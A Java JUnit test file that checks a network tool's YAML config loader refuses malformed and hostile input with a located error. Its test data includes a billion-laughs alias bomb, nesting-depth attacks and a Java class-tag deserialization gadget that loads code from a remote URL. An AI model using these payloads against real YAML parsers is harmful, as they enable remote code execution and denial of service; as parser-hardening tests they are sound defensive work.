package io.vtep.core.config;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile and broken YAML (issue 15, "Config"): every document is refused with a
 * {@link ConfigException} that says where (a key path, or a line and column), never with another
 * exception or error, and quickly. {@code bin/vtep run} turns that into exit code 2 (CommandLineTest).
 */
class MalformedYamlTest
{
    private static final String VALID_HEAD = """
        vtep: { local-ip: 192.0.2.1 }
        ports: [ { name: eth1, vlans: { untagged: 100 } } ]
        """;

    static Stream<Arguments> malformed()
    {
        return Stream.of(
            Arguments.of("a value that contains itself", VALID_HEAD + "vnis: &loop [ *loop ]\n", "vnis[0]: contains itself"),
            Arguments.of("a mapping that contains itself", "vtep: &loop { local-ip: 192.0.2.1, again: *loop }\n", "vtep.again: contains itself"),
            Arguments.of("a mapping that is its own key", "&loop { *loop : 1 }\n", "contains itself"),
            Arguments.of("an alias bomb (billion laughs)", """
                a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
                b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
                c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
                d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
                e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
                f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
                """, "aliases for non-scalar nodes exceeds the specified max=10"),
            Arguments.of("an alias to an undefined anchor", VALID_HEAD + "vnis: [ *nowhere ]\n", "line"),
            Arguments.of("a Java class tag",
                "vtep: !!javax.script.ScriptEngineManager [ !!java.net.URLClassLoader [[ !!java.net.URL [\"http://192.0.2.9/\"] ]] ]\n", "line"),
            Arguments.of("a custom local tag", "vtep: !evil { local-ip: 192.0.2.1 }\n", "line"),
            Arguments.of("a binary where a name belongs",
                "vtep: { local-ip: 192.0.2.1 }\nports: [ { name: !!binary AAAA, vlans: { untagged: 100 } } ]\n",
                "line 2"),
            Arguments.of("a binary that is not base64 (found by ConfigLoaderFuzzTest)", "vtep: { local-ip: !!binary ZXR\u00efMQ== }\n", "line 1"),
            Arguments.of("a timestamp where an address belongs", "vtep: { local-ip: 2001-12-14t21:59:43.10-05:00 }\n", "line 1"),
            Arguments.of("a set where a list belongs", VALID_HEAD + "vnis: !!set { ? a, ? b }\n", "line 3"),
            Arguments.of("a list as a key", VALID_HEAD + "? [ vnis ]\n: []\n", "[vnis]"),
            Arguments.of("a mapping as a VLAN", "vtep: { local-ip: 192.0.2.1 }\nports: [ { name: eth1, vlans: { { a: 1 }: 100 } } ]\n",
                "ports[0].vlans"),
            Arguments.of("a number too large for any type", "vtep: { local-ip: 192.0.2.1, udp-port: 1" + "0".repeat(400) + " }\n" +
                "ports: [ { name: eth1, vlans: { untagged: 100 } } ]\n", "vtep.udp-port"),
            Arguments.of("a float where a number belongs",
                "vtep: { local-ip: 192.0.2.1, ttl: .inf }\nports: [ { name: eth1, vlans: { untagged: 100 } } ]\n",
                "vtep.ttl"),
            Arguments.of("a null key", VALID_HEAD + "~: 1\n", "null"),
            Arguments.of("duplicate keys", "vtep: { local-ip: 192.0.2.1 }\nvtep: { local-ip: 192.0.2.2 }\n", "vtep"),
            Arguments.of("duplicate keys through a merge", "base: &b { local-ip: 192.0.2.1 }\nvtep: { <<: *b, local-ip: 192.0.2.2 }\n", ""),
            Arguments.of("deep nesting", "vtep: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n", "Nesting Depth exceeded max 50"),
            Arguments.of("deep block nesting", deepBlock(1_000), "Nesting Depth exceeded max 50"),
            Arguments.of("two documents", VALID_HEAD + "---\n" + VALID_HEAD, "line"),
            Arguments.of("a tab as indentation", "vtep:\n\tlocal-ip: 192.0.2.1\n", "line"),
            Arguments.of("a NUL character", "vtep: { local-ip: 192.0.2.1 }\u0000\n", ""),
            Arguments.of("an unpaired surrogate", "vtep: { local-ip: \"\\uD800\" }\n", ""),
            Arguments.of("a document that is a scalar", "just text\n", ""),
            Arguments.of("a document that is a list", "[ 1, 2 ]\n", ""));
    }

    private static String deepBlock(final int depth)
    {
        final StringBuilder yaml = new StringBuilder();
        for (int i = 0; i < depth; i++)
        {
            yaml.append(" ".repeat(i)).append("k").append(i).append(":\n");
        }
        return yaml.toString();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("malformed")
    void isRefusedSayingWhere(final String what, final String yaml, final String where)
    {
        final ConfigException refused = refuse(yaml);
        assertTrue(refused.getMessage().contains(where), what + ": " + refused.getMessage());
        assertTrue(refused.getMessage().length() < 1_000, what + ": a message for a human, not a dump: " + refused.getMessage());
    }

    /** The code point limit: a 10 MB document is refused before it is parsed, not after taking the heap. */
    @Test
    void aHugeDocumentIsRefusedNamingTheLimit(@TempDir final Path directory) throws IOException
    {
        final Path file = directory.resolve("huge.yaml");
        Files.writeString(file, VALID_HEAD + "# " + "x".repeat(10 * 1024 * 1024) + "\n");
        final ConfigException refused = assertThrows(ConfigException.class, () -> ConfigLoader.load(file));
        assertTrue(refused.getMessage().contains("larger than"), refused.getMessage());

        final ConfigException parsed = refuse(VALID_HEAD + "# " + "x".repeat(10 * 1024 * 1024) + "\n");
        assertTrue(parsed.getMessage().contains("larger than"), parsed.getMessage());
    }

    @Test
    void aFileThatIsNotUtf8IsRefused(@TempDir final Path directory) throws IOException
    {
        final Path file = directory.resolve("latin1.yaml");
        Files.write(file, (VALID_HEAD + "# caf\u00e9\n").getBytes(StandardCharsets.ISO_8859_1));
        final ConfigException refused = assertThrows(ConfigException.class, () -> ConfigLoader.load(file));
        assertTrue(refused.getMessage().contains("UTF-8"), refused.getMessage());
    }

    @Test
    void aDirectoryIsRefused(@TempDir final Path directory)
    {
        final ConfigException refused = assertThrows(ConfigException.class, () -> ConfigLoader.load(directory));
        assertTrue(refused.getMessage().contains("cannot read"), refused.getMessage());
    }

    @Test
    void aFewAliasesForScalarsStillWork() throws ConfigException
    {
        final VtepConfig config = ConfigLoader.parse("""
            vtep: { local-ip: &me 192.0.2.1 }
            ports: [ { name: eth1, vlans: { untagged: &vni 100 } } ]
            vnis: [ { vni: *vni, flood: [ 192.0.2.2 ] } ]
            """);
        assertEquals(100, config.vnis().get(0).vni());
    }

    /** Returns the refusal; fails on success, on any other throwable, and on a parse that takes seconds. */
    static ConfigException refuse(final String yaml)
    {
        return assertTimeoutPreemptively(Duration.ofSeconds(20), () ->
        {
            try
            {
                ConfigLoader.parse(yaml);
            }
            catch (final ConfigException expected)
            {
                return expected;
            }
            catch (final Throwable other)
            {
                fail("not a ConfigException: " + other, other);
            }
            return fail("accepted");
        });
    }
}
